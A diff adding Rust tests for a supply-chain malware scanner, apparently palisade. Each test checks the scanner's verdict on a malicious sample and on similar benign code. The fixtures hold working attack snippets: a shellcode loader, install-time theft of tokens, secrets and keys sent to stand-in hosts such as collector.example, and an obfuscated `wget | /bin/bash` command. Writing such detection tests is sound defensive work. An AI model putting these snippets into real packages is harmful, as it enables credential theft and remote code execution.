@@ -1,0 +1,285 @@
+//! Techniques of 2025's worms, loaders and typosquats that no rule knew, each beside the
+//! honest code it resembles: a shellcode loader in a Python module, TruffleHog run over
+//! the home folder, a planted workflow that dumps every secret, npm's own token asked
+//! for, a RubyGems plugin that runs on every `gem` command, a Go command spelled from a
+//! character table, and a crate searching files for secret keys. Hosts and names are
+//! made up.
+
+use palisade_archive::Unpacked;
+use palisade_core::{PackageFile, Verdict};
+use palisade_detect::{Analysis, Engine, ScanOptions};
+use std::time::{Duration, Instant};
+
+fn analyse(files: &[(&str, &[u8])]) -> Analysis {
+    let engine = Engine::new(ScanOptions::default()).unwrap();
+    let unpacked = Unpacked {
+        format: "tar".into(),
+        files: files
+            .iter()
+            .map(|(path, data)| PackageFile {
+                path: path.to_string(),
+                data: data.to_vec(),
+            })
+            .collect(),
+        ..Default::default()
+    };
+    engine.analyse_unpacked(unpacked, Instant::now() + Duration::from_secs(30))
+}
+
+fn has(analysis: &Analysis, id: &str) -> bool {
+    analysis.findings.iter().any(|f| f.rule == id)
+}
+
+fn ids(analysis: &Analysis) -> Vec<&str> {
+    analysis.findings.iter().map(|f| f.rule.as_str()).collect()
+}
+
+/// A source distribution whose package `fastutil` has `init` as its `__init__.py`.
+fn sdist(init: &str) -> Analysis {
+    analyse(&[
+        (
+            "fastutil-1.0/PKG-INFO",
+            b"Metadata-Version: 2.1\nName: fastutil\nVersion: 1.0\n",
+        ),
+        (
+            "fastutil-1.0/setup.py",
+            b"from setuptools import setup\nsetup(name='fastutil', version='1.0', packages=['fastutil'])\n",
+        ),
+        ("fastutil-1.0/fastutil/__init__.py", init.as_bytes()),
+    ])
+}
+
+/// An npm package whose postinstall runs `install.js`.
+fn npm_postinstall(install: &str) -> Analysis {
+    analyse(&[
+        (
+            "package/package.json",
+            br#"{"name": "demo", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}"#,
+        ),
+        ("package/install.js", install.as_bytes()),
+    ])
+}
+
+#[test]
+fn a_module_that_runs_shellcode_is_malicious_wherever_it_sits() {
+    let loader = "import ctypes, base64\nbuf = base64.b64decode(BLOB)\nk32 = ctypes.windll.kernel32\nptr = k32.VirtualAlloc(None, len(buf), 0x3000, 0x40)\nk32.RtlMoveMemory(ctypes.c_void_p(ptr), buf, len(buf))\nk32.WaitForSingleObject(k32.CreateThread(None, 0, ctypes.c_void_p(ptr), None, 0, None), -1)\n";
+    let analysis = sdist(loader);
+    assert!(has(&analysis, "execution/shellcode-injection"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Malicious,
+        "{:?}",
+        ids(&analysis)
+    );
+
+    // A binding that reserves memory through VirtualAlloc runs no code from it.
+    let allocator = "import ctypes\nk32 = ctypes.windll.kernel32\ndef reserve(n):\n    return k32.VirtualAlloc(None, n, 0x2000, 0x04)\ndef release(p):\n    k32.VirtualFree(p, 0, 0x8000)\n";
+    let analysis = sdist(allocator);
+    assert!(!has(&analysis, "execution/shellcode-injection"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Clean,
+        "{:?}",
+        ids(&analysis)
+    );
+
+    // A CPU-feature check (polars, archspec) runs a few bytes of CPUID as a function.
+    let cpuid = "import ctypes\n_CODE = b'\\x53\\x89\\xf0\\x0f\\xa2\\x5b\\xc3'\nclass CPUID:\n    def __init__(self):\n        self.addr = _VirtualAlloc(None, len(_CODE), 0x3000, 0x40)\n        ctypes.memmove(self.addr, _CODE, len(_CODE))\n        self.func = ctypes.CFUNCTYPE(None, ctypes.c_void_p)(self.addr)\n";
+    let analysis = sdist(cpuid);
+    assert!(!has(&analysis, "execution/shellcode-injection"));
+    assert!(has(&analysis, "execution/executable-memory-call"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Clean,
+        "{:?}",
+        ids(&analysis)
+    );
+}
+
+#[test]
+fn trufflehog_over_the_home_folder_at_install_is_a_stealer() {
+    let worm = "const { execSync } = require('child_process');\nconst os = require('os');\nconst found = execSync('/tmp/trufflehog filesystem ' + os.homedir() + ' --json').toString();\nfetch('https://results.collector.example/r', { method: 'POST', body: found });\n";
+    let analysis = npm_postinstall(worm);
+    assert!(has(&analysis, "credentials/secret-scanner-harvest"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Malicious,
+        "{:?}",
+        ids(&analysis)
+    );
+
+    // A pre-commit wrapper scanning the repository it was asked to scan.
+    let wrapper = "const { execSync } = require('child_process');\nmodule.exports = (dir) => execSync('gitleaks detect --source ' + JSON.stringify(dir));\n";
+    let analysis = analyse(&[
+        (
+            "package/package.json",
+            br#"{"name": "demo", "version": "1.0.0"}"#,
+        ),
+        ("package/index.js", wrapper.as_bytes()),
+    ]);
+    assert!(!has(&analysis, "credentials/secret-scanner-harvest"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Clean,
+        "{:?}",
+        ids(&analysis)
+    );
+}
+
+#[test]
+fn planting_a_workflow_that_dumps_every_secret_is_malicious() {
+    let worm = "const fs = require('fs');\nconst wf = `on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"$DATA\" https://collector.example/wf\n        env:\n          DATA: ${{ toJSON(secrets) }}\n`;\nfs.mkdirSync('.github/workflows', { recursive: true });\nfs.writeFileSync('.github/workflows/ci-helper.yml', wf);\n";
+    let analysis = npm_postinstall(worm);
+    assert!(has(&analysis, "credentials/ci-secrets-dump"));
+    assert!(has(&analysis, "persistence/self-propagation"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Malicious,
+        "{:?}",
+        ids(&analysis)
+    );
+
+    // A workflow passing the one secret it needs, shipped by mistake.
+    let analysis = analyse(&[
+        (
+            "package/package.json",
+            br#"{"name": "demo", "version": "1.0.0"}"#,
+        ),
+        (
+            "package/.github/workflows/release.yml",
+            b"jobs:\n  publish:\n    steps:\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
+        ),
+    ]);
+    assert!(!has(&analysis, "credentials/ci-secrets-dump"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Clean,
+        "{:?}",
+        ids(&analysis)
+    );
+}
+
+#[test]
+fn asking_npm_for_its_token_at_install_and_sending_it_is_theft() {
+    let thief = "const { execSync } = require('child_process');\nconst token = execSync('npm config get //registry.npmjs.org/:_authToken').toString();\nfetch('https://relay.collector.example/t', { method: 'POST', body: token });\n";
+    let analysis = npm_postinstall(thief);
+    assert!(has(&analysis, "credentials/cli-stored-token"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Malicious,
+        "{:?}",
+        ids(&analysis)
+    );
+}
+
+#[test]
+fn a_rubygems_plugin_is_install_time_code() {
+    let spec = "--- !ruby/object:Gem::Specification\nname: demo\nversion: !ruby/object:Gem::Version\n  version: '1.0'\nextensions: []\n";
+    let plugin = "require 'net/http'\nrequire 'json'\nGem.post_install do |installer|\n  Net::HTTP.post(URI('https://stats.collector.example/i'), ENV.to_h.to_json)\nend\n";
+    let gem = |path: &str| {
+        analyse(&[
+            ("metadata.gz!/metadata", spec.as_bytes()),
+            ("data.tar.gz!/lib/demo.rb", b"module Demo; end\n"),
+            (path, plugin.as_bytes()),
+        ])
+    };
+    let analysis = gem("data.tar.gz!/lib/rubygems_plugin.rb");
+    assert!(has(&analysis, "install/gem-rubygems-plugin"));
+    assert!(has(&analysis, "correlate/install-time-network"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Malicious,
+        "{:?}",
+        ids(&analysis)
+    );
+    // The same code in a library file waits for someone to require it.
+    let analysis = gem("data.tar.gz!/lib/demo/stats.rb");
+    assert!(!has(&analysis, "correlate/install-time-network"));
+}
+
+/// A Go module zip holding `source` as its only Go file.
+fn go_module(source: &str) -> Analysis {
+    analyse(&[
+        (
+            "example.com/hypert@v1.0.2/go.mod",
+            b"module example.com/hypert\n\ngo 1.21\n",
+        ),
+        ("example.com/hypert@v1.0.2/hypert.go", source.as_bytes()),
+    ])
+}
+
+#[test]
+fn a_command_spelled_from_a_character_table_is_read_and_shown() {
+    let command = "wget -O - https://cdn.example/storage/a31546bf | /bin/bash &";
+    let mut table: Vec<char> = command.chars().collect();
+    table.sort();
+    table.dedup();
+    let literals: Vec<String> = table.iter().map(|c| format!("\"{c}\"")).collect();
+    let chain: Vec<String> = command
+        .chars()
+        .map(|c| format!("t[{}]", table.iter().position(|&x| x == c).unwrap()))
+        .collect();
+    let source = format!(
+        "package hypert\n\nimport \"os/exec\"\n\nfunc run() error {{\n\tt := []string{{{}}}\n\tc := {}\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n\treturn nil\n}}\n\nvar started = run()\n",
+        literals.join(", "),
+        chain.join(" + ")
+    );
+    let analysis = go_module(&source);
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Malicious,
+        "{:?}",
+        ids(&analysis)
+    );
+    let shown = analysis
+        .findings
+        .iter()
+        .find(|f| f.rule == "download/pipe-to-shell")
+        .expect("the decoded command is analysed");
+    assert!(shown.snippet.as_deref().unwrap_or("").contains("/bin/bash"));
+    assert_eq!(shown.line, Some(7));
+
+    // A hex-digit table indexed by nibbles is how Go code prints bytes.
+    let hex = "package hexfmt\n\nvar digits = []string{\"0\",\"1\",\"2\",\"3\",\"4\",\"5\",\"6\",\"7\",\"8\",\"9\",\"a\",\"b\",\"c\",\"d\",\"e\",\"f\"}\n\nfunc Byte(b byte) string { return digits[b>>4] + digits[b&15] }\n";
+    let analysis = go_module(hex);
+    assert!(!has(&analysis, "concealment/indexed-character-table"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Clean,
+        "{:?}",
+        ids(&analysis)
+    );
+}
+
+#[test]
+fn searching_files_for_secret_keys_and_posting_them_is_theft() {
+    let crate_with = |lib: &str| {
+        analyse(&[
+            (
+                "fast_log-0.1.3/Cargo.toml",
+                b"[package]\nname = \"fast_log\"\nversion = \"0.1.3\"\n",
+            ),
+            ("fast_log-0.1.3/src/lib.rs", lib.as_bytes()),
+        ])
+    };
+    let thief = "pub fn init() {\n    let re = regex::Regex::new(r\"[1-9A-HJ-NP-Za-km-z]{87,88}\").unwrap();\n    let found: Vec<String> = walk(\".\").filter_map(|t| re.find(&t).map(|m| m.as_str().to_string())).collect();\n    let _ = reqwest::blocking::Client::new().post(\"https://rpc-pool.example.dev/\").body(found.join(\"\\n\")).send();\n}\n";
+    let analysis = crate_with(thief);
+    assert!(has(&analysis, "credentials/private-key-search"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Malicious,
+        "{:?}",
+        ids(&analysis)
+    );
+
+    // Validating an address (32 to 44 characters) beside an RPC client is a wallet SDK.
+    let sdk = "pub fn is_address(s: &str) -> bool {\n    regex::Regex::new(r\"^[1-9A-HJ-NP-Za-km-z]{32,44}$\").unwrap().is_match(s)\n}\npub fn balance(c: &reqwest::blocking::Client, a: &str) { let _ = c.post(\"https://rpc.example.dev/\").body(a.to_string()).send(); }\n";
+    let analysis = crate_with(sdk);
+    assert!(!has(&analysis, "credentials/private-key-search"));
+    assert_eq!(
+        analysis.score.verdict,
+        Verdict::Clean,
+        "{:?}",
+        ids(&analysis)
+    );
+}
